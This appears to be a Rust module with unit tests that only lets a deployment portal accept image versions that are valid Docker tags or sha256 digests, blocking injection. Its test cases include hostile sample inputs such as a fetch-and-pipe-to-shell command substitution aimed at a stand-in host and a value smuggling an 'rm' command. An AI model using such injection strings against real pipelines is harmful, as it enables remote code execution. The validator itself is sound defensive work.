//! What a version may be when the portal deploys it: an image tag or a digest. Anything else
//! (`../other-repo`, `$(curl …)`) could point a service at another image, or inject into a
//! workflow that splices the version into a shell command.

/// Docker's tag grammar: a letter, digit or `_`, then up to 127 of those, `.` and `-`.
pub fn is_tag(text: &str) -> bool {
    let word = |c: char| c.is_ascii_alphanumeric() || c == '_';
    text.len() <= 128 && text.chars().next().is_some_and(word) && text.chars().all(|c| word(c) || c == '.' || c == '-')
}

/// `sha256:` and 64 lowercase hex digits.
pub fn is_digest(text: &str) -> bool {
    text.strip_prefix("sha256:").is_some_and(|hex| hex.len() == 64 && hex.bytes().all(|b| b.is_ascii_digit() || (b'a'..=b'f').contains(&b)))
}

/// A tag or a digest.
pub fn is_version(text: &str) -> bool {
    is_tag(text) || is_digest(text)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn versions_are_tags_or_digests() {
        assert!(is_version("1.10") && is_version("v2.0.0-rc.1") && is_version("main_abc123"));
        assert!(is_version(&format!("sha256:{}", "a".repeat(64))));
        for bad in ["", ".hidden", "-x", "$(curl${IFS}evil|sh)", "a b", "1.0;rm", "../other", "{{branch}}", &"x".repeat(129)] {
            assert!(!is_version(bad), "{bad} accepted");
        }
        assert!(!is_digest(&format!("sha256:{}", "A".repeat(64))));
    }
}
